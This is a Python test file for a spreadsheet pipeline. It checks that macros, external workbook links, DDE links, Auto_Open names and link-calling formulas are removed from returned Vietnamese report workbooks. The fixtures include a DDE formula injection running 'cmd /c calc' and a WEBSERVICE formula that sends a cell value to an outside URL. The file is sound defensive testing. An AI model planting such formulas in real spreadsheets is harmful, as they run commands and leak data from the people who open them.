"""Workbooks not edited as they are: no macros, no links out, formulas with their values; .xls and .ods as .xlsx."""

from __future__ import annotations

import re
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from pipeline.read import kind_of, read_workbook
from pipeline.returns.marks import mark
from pipeline.returns.package import NotPlainError
from pipeline.returns.rebuilt import from_values, resaved
from schemas.records import Grid
from tests import libreoffice
from tests.copies import ERROR, LETTER, SHEET, changed, form, look, opened, parts
from tests.makers import forms

AS_OF = datetime(2021, 5, 10, 8, tzinfo=UTC)
MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACROS = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
LINK = (
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships"><{} xmlns:r2="x" {}/></externalLink>'
)


def with_values(data: bytes, values: dict[str, str]) -> bytes:
    """Give formulas stored values, as Excel does: cell -> number."""

    def store(xml: bytes) -> bytes:
        for cell, value in values.items():
            pattern = rb'(<c r="%b"[^>]*><f>[^<]*</f>)<v\s*/?>(?:</v>)?' % cell.encode()
            xml, found = re.subn(pattern, rb"\g<1><v>%b</v>" % value.encode(), xml)
            assert found == 1, cell
        return xml

    return forms.with_part(data, "xl/worksheets/sheet1.xml", store)


def with_macros(data: bytes) -> bytes:
    members = parts(data)
    types = members["[Content_Types].xml"].replace(MAIN, MACROS)
    bin_type = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    rels = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    return forms.zipped(
        members
        | {
            "[Content_Types].xml": types.replace(b"</Types>", bin_type),
            "xl/_rels/workbook.xml.rels": rels,
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro code",
        }
    )


def made(data: bytes) -> bytes:
    """Return the copy, made as for a workbook that cannot be edited as it is."""
    with pytest.raises(NotPlainError):
        mark(data, [ERROR], LETTER, ())
    grids, _ = read_workbook(data, "xlsx")
    return mark(resaved(data, grids, AS_OF), [ERROR], LETTER, ("note_resaved",))


def test_macros_do_not_travel_and_formats_stay():
    data = form()
    copy = made(with_macros(data))
    held = parts(copy)
    assert MAIN in held["[Content_Types].xml"]
    assert b"macro" not in b"".join(held.values()).lower().replace("Macro, liên kết".encode().lower(), b"")
    before, after = opened(data)[SHEET], opened(copy)[SHEET]
    assert {look(after[cell]) == look(before[cell]) for cell in ("A1", "A12", "B12", "B14", "A4")} == {True}
    assert after.column_dimensions["A"].width == before.column_dimensions["A"].width
    assert sorted(map(str, after.merged_cells.ranges)) == sorted(map(str, before.merged_cells.ranges))
    assert after["B13"].fill.fgColor.rgb == "FFF7B2AC"
    assert "Macro" in " ".join(str(c.value) for row in opened(copy).worksheets[0] for c in row if c.value)


def test_no_author_of_ours_and_the_time_of_the_run():
    def no_author(book):
        book.properties.creator = ""
        book.properties.created = datetime(2021, 4, 1)

    core = parts(made(with_macros(changed(form(), no_author))))["docProps/core.xml"]
    assert b"openpyxl" not in core
    assert b"2021-05-10T08:00:00Z</dcterms:modified>" in core
    assert b"2021-04-01T00:00:00Z</dcterms:created>" in core

    def author(book):
        book.properties.creator = "Nguyễn Văn Ba"

    core = parts(made(with_macros(changed(form(), author))))["docProps/core.xml"]
    assert "<dc:creator>Nguyễn Văn Ba</dc:creator>".encode() in core


def test_formulas_keep_their_values_and_those_that_reach_out_are_only_values():
    def change(book):
        sheet = book[SHEET]
        sheet["D1"], sheet["D2"], sheet["D3"] = "=SUM(B12:B13)", "=[1]Sheet1!A1", "=B12&\"|\"&cmd|'/c calc'!A0"
        sheet["D4"] = ArrayFormula("D4", '=WEBSERVICE("http://example.vn/"&B12)')
        sheet["D5"] = "=SUM(B12,B13)"
        book.create_sheet("Hai")["A1"] = "='Báo cáo'!B12+1"

    data = with_values(changed(form(), change), {"D1": "61", "D2": "7", "D3": "8"})
    copy = made(data)
    sheet = opened(copy)[SHEET]
    assert [sheet[f"D{n}"].value for n in (1, 2, 3, 4, 5)] == ["=SUM(B12:B13)", 7, 8, None, "=SUM(B12,B13)"]
    grids, _ = read_workbook(copy, "xlsx")
    assert [grids[1].rows[n][3] for n in (0, 1, 2)] == [61, 7, 8]
    assert grids[1].problems[4, 3] == "formula"  # it had no value, and is not given one


def test_links_names_and_rules_that_lead_out_are_left_out():
    def change(book):
        from openpyxl.workbook.defined_name import DefinedName

        sheet = book[SHEET]
        sheet["D1"].hyperlink = "http://example.vn/"
        sheet["D1"].value = "xem tại đây"
        for name, text in (("Xa", "[1]Sheet1!$A$1"), ("Auto_Open", "Macro1!$A$1"), ("Gan", f"'{SHEET}'!$B$12")):
            book.defined_names[name] = DefinedName(name, attr_text=text)
        far = DataValidation(type="list", formula1="[1]Sheet1!$A$1:$A$9")
        sheet.add_data_validation(far)
        far.add("D9")

    data = changed(form(), change)
    rules = len(opened(form())[SHEET].data_validations.dataValidation)
    copy = made(data)
    book = opened(copy)
    assert {"Gan", "Xa", "Auto_Open"} & set(book.defined_names) == {"Gan"}
    assert (book[SHEET]["D1"].value, book[SHEET]["D1"].hyperlink) == ("xem tại đây", None)
    assert len(book[SHEET].data_validations.dataValidation) == rules
    assert b"External" not in b"".join(parts(copy).values())


@pytest.mark.parametrize("kind", ["externalBook", "ddeLink"])
def test_other_workbooks_and_dde_do_not_travel(kind: str):
    members = parts(form())
    link = LINK.format(kind, 'ddeService="cmd" ddeTopic="/c calc"' if kind == "ddeLink" else 'r:id="rId1"')
    members["xl/externalLinks/externalLink1.xml"] = link.encode()
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file:///C:/so-lieu.xlsx" TargetMode="External"/></Relationships>'
    )
    copy = made(forms.zipped(members))
    assert not [name for name in parts(copy) if "external" in name.lower()]
    assert b"calc" not in b"".join(parts(copy).values()).replace(b"calcPr", b"").replace(b"calcId", b"")
    assert b"so-lieu" not in b"".join(parts(copy).values())


def test_what_cannot_be_loaded_is_refused_so_that_its_values_are_taken():
    broken = forms.with_part(form(), "xl/styles.xml", lambda xml: xml.replace(b"<fills", b"<fills bad<"))
    with pytest.raises(NotPlainError):
        resaved(broken, [], AS_OF)


def test_values_of_an_xls_come_back_in_their_cells():
    def merge(sheet):
        sheet.write_merge(9, 9, 0, 1, "T/M CHI ỦY")
        sheet.write(10, 1, "=1+1")

    data = forms.xls(change=merge)
    grids, _ = read_workbook(data, kind_of(data))
    copy = mark(from_values(grids, AS_OF)[0], [ERROR._replace(sheet="Sheet1", cell="B5")], LETTER, ("note_values",))
    sheet = opened(copy)["Sheet1"]
    assert [(row[0].value, row[1].value) for row in sheet.iter_rows(max_row=9, max_col=2)] == [
        (label, value or None) for label, value in forms.FORM
    ]
    assert sheet["B11"].data_type == "s"
    assert list(map(str, sheet.merged_cells.ranges)) == ["A10:B10"]
    assert sheet["B5"].comment
    assert sheet.column_dimensions["A"].width > 40
    assert re.search(rb"<dcterms:created[^>]*>2021-05-10T08:00:00Z<", parts(copy)["docProps/core.xml"])
    assert b"openpyxl</dc:creator>" not in parts(copy)["docProps/core.xml"]
    assert copy == mark(
        from_values(grids, AS_OF)[0], [ERROR._replace(sheet="Sheet1", cell="B5")], LETTER, ("note_values",)
    )


def test_rows_are_as_tall_as_their_texts_and_checks_that_would_be_stale_are_left_out():
    """A verdict that no formula keeps any more would go on saying that a mended cell is wrong."""
    checks = [["Tổng số đảng viên", 45, "Ghi chú (tự động kiểm tra, không in)"], ["Số dự", 50, "✗ Lớn hơn"]]
    grid = Grid("Báo cáo", [*checks, ["Nhận xét", "Bài viết nghiêm túc, đúng yêu cầu. " * 10, ""]])
    sheet = opened(from_values([grid], AS_OF)[0])["Báo cáo"]
    assert [sheet.row_dimensions[row].height for row in (1, 3)] == [None, 16.5 * 6 + 2]
    assert [[cell.value for cell in row] for row in sheet["A1:B2"]] == [["Tổng số đảng viên", 45], ["Số dự", 50]]
    assert sheet.max_column == 2


def test_values_of_an_ods_made_by_another_program_come_back(tmp_path: Path):
    source = tmp_path / "bao cao.xlsx"
    source.write_bytes(form())
    data = libreoffice.convert(source, tmp_path, "ods").read_bytes()
    grids, _ = read_workbook(data, kind_of(data))
    copy = mark(from_values(grids, AS_OF)[0], [ERROR], LETTER, ("note_values",))
    before, after = opened(form())[SHEET], opened(copy)[SHEET]
    assert [after[f"B{n}"].value for n in (8, 12, 13, 15)] == [before[f"B{n}"].value for n in (8, 12, 13, 15)]
    assert after["B13"].comment


def test_a_copy_that_another_program_saved_is_known_and_marked_anew(tmp_path: Path):
    source = tmp_path / "ban tra lai.xlsx"
    source.write_bytes(mark(form(), [ERROR], LETTER, ()))
    saved = libreoffice.convert(source, tmp_path).read_bytes()
    again = opened(mark(saved, [ERROR._replace(cell="B12")], LETTER, ()))
    assert again.sheetnames == ["Nội dung cần sửa", *opened(form()).sheetnames]
    assert [cell.coordinate for row in again[SHEET] for cell in row if cell.comment] == ["B12"]
    assert again[SHEET]["B13"].fill.fgColor.rgb == opened(form())[SHEET]["B13"].fill.fgColor.rgb


def test_sheets_that_excel_cannot_name_get_names_and_keep_their_findings():
    grids, _ = read_workbook(forms.xls(), "xls")
    odd = [replace(grids[0], name="Đợt 1: tổng hợp [báo cáo]/2021 của chi bộ ấp Ngã Bát"), replace(grids[0], name="?")]
    data, names = from_values(odd, AS_OF)
    assert opened(data).sheetnames == list(names.values()) == ["Đợt 1  tổng hợp  báo cáo  20", "Sheet"]


def test_numbers_that_a_workbook_cannot_hold_and_errors_are_shown():
    grids, _ = read_workbook(forms.xls(), "xls")
    grids[0].rows[3][1], grids[0].rows[4][1] = float("inf"), ""
    grids[0].problems[4, 1] = "#REF!"
    sheet = opened(from_values(grids, AS_OF)[0])["Sheet1"]
    assert (sheet["B4"].value, sheet["B5"].value, sheet["B5"].data_type) == ("inf", "#REF!", "e")


PARTS = (
    "xl/workbook.xml",
    "xl/styles.xml",
    "xl/worksheets/sheet1.xml",
    "xl/comments1.xml",
    "xl/worksheets/returned1.xml",
)


@given(
    st.sampled_from(PARTS), st.randoms(use_true_random=False), st.sampled_from([b"", b"-1", b"x", b"9" * 30, b"\xff"])
)
@settings(max_examples=60, deadline=None)
def test_whatever_a_part_says_a_copy_is_made_or_refused(part: str, random: Random, instead: bytes):
    """A number or a tag changed anywhere must not stop a run."""

    def spoil(xml: bytes) -> bytes:
        found = random.choice(list(re.finditer(rb"\d+|<[^>]*>", xml)))
        return xml[: found.start()] + instead + xml[found.end() :]

    with suppress(NotPlainError):
        mark(forms.with_part(COME_BACK, part, spoil), [ERROR], LETTER, ())


COME_BACK = mark(form(), [ERROR], LETTER, ())
